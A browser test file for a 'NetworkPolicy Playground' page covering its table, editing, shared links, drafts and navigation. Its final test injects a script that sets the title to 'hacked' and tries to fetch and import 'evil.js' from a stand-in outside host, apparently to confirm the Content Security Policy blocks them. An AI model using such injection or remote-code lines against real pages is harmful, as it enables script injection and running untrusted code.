// What people do most with the page, in WebKit: see it, type, share, come back.
import assert from "node:assert/strict";
import { DASH, EIGHT, NO_DASH } from "../texts.mjs";
import { linkTo, POLICY } from "../widget.mjs";
import { KEYS, until } from "./driver.mjs";
import { test } from "./fixture.mjs";

test("the page opens with the article's scoreboard, row for row", async ({ site, reader, session }) => {
  await reader.open(site.url);
  assert.equal(await session.title(), "NetworkPolicy Playground");
  await reader.shows(EIGHT);
  await until("one cell is explained", async () => (await session.text("//section[@aria-label='Why']//h2")) === "Why is Cross namespace partly allowed?");
});

test("one dash typed in front of podSelector changes its row while typing, and back", async ({ site, reader, session }) => {
  await reader.open(site.url);
  await reader.editor();
  await reader.retype(NO_DASH, DASH);
  await reader.showsOf("Specific Pod+NS", /separate items/, /./, /Partly: ml-ops only/);
  await session.press(Array(DASH.length).fill(KEYS.backspace));
  await session.press(NO_DASH);
  await reader.shows(EIGHT);
});

test("a shared link shows a colleague the same table, also after a reload", async ({ site, reader, colleague }) => {
  await reader.open(site.url);
  await reader.editor();
  await reader.retype(NO_DASH, DASH);
  await reader.showsOf("Specific Pod+NS", /separate items/);
  const rows = await reader.rows();
  const link = await reader.share();
  assert.match(link, /#\/p\/1\./);
  await colleague();
  await reader.open(link);
  await reader.shows(rows);
  await reader.reload();
  await reader.shows(rows);
});

test("what was typed is kept over a reload, and can be restored", async ({ site, reader, session }) => {
  await reader.open(`${site.url}#/s/and-trap`);
  await reader.editor();
  await reader.retype("name: and-trap", "name: precious");
  await reader.showsOf("precious", /./);
  await reader.reload();
  await session.click("//button[normalize-space()='Restore my draft']");
  await reader.showsOf("precious", /./);
});

test("a built-in text, its rail and its link work in a folder", async ({ site, reader, session }) => {
  await reader.open(`${site.folder}#/s/eight`);
  await reader.shows(EIGHT);
  await session.click("//nav//a[contains(., 'OR Logic')]");
  await reader.shows([EIGHT[5], ["All together", "policies add up", ...EIGHT[5].slice(2)]]);
  assert.equal(await reader.share(), `${site.folder}#/s/or-logic`);
});

test("an address that changes opens another text, and Back returns", async ({ site, reader, session }) => {
  await reader.open(`${site.url}#/s/deny-all`);
  await session.run((hash) => void (location.hash = hash), linkTo(POLICY));
  await reader.showsOf("from-a-link", /./, /Denied/, /Denied/, /Denied/);
  await session.run(() => history.back());
  await reader.showsOf("Deny All", /no ingress key/);
});

test("a pressed cell tells why", async ({ site, reader, session }) => {
  await reader.open(`${site.url}#/s/or-logic`);
  await session.click("(//table//tbody/tr[1]//td//button)[3]");
  await until("the why is told", async () => /^Why is External denied/.test(await session.text("//section[@aria-label='Why']//h2")));
});

test("without the editor the text field does its work", async ({ site, reader }) => {
  site.withhold = /\/editor-\w+\.js$/;
  reader.expect(/editor-\w+\.js/);
  await reader.open(site.url);
  await reader.retype(NO_DASH, DASH);
  await reader.showsOf("Specific Pod+NS", /separate items/, /./, /Partly: ml-ops only/);
});

test("no inline script runs, no text becomes markup or code, and nothing talks to another origin", async ({ site, reader, session }) => {
  await reader.open(site.url);
  reader.expect(/^violates /, /Trusted/);
  const knowsTrustedTypes = await session.run(() => "trustedTypes" in globalThis); // from Safari 26 on
  const outcome = await session.runAndWait((done) => {
    const script = document.createElement("script");
    script.append("document.title = 'hacked'");
    document.body.append(script);
    const nameOf = (task) => {
      try {
        task();
        return "taken";
      } catch (error) {
        return error.name;
      }
    };
    // what a driver runs may make code from text, what a timer calls later may not
    setTimeout(async () => {
      const code = nameOf(() => new Function("return 1")());
      const markup = nameOf(() => (document.createElement("p").innerHTML = "<b>"));
      const address = nameOf(() => (document.createElement("script").src = "boot.js"));
      const elsewhere = await fetch("https://elsewhere.example/").then(
        () => "fetched",
        (error) => error.name,
      );
      const from = await import("https://elsewhere.example/evil.js").then(
        () => "ran",
        (error) => error.name,
      );
      done({ code, markup, address, elsewhere, from });
    });
  });
  const text = knowsTrustedTypes ? "TypeError" : "taken";
  assert.deepEqual(outcome, { code: "EvalError", markup: text, address: text, elsewhere: "TypeError", from: "TypeError" });
  assert.equal(await session.title(), "NetworkPolicy Playground");
  const violated = (await reader.faults()).join("\n");
  for (const rule of ["script-src-elem", "connect-src", ...(knowsTrustedTypes ? ["require-trusted-types-for"] : [])])
    assert.match(violated, new RegExp(`violates ${rule}`));
  await reader.shows(EIGHT);
});
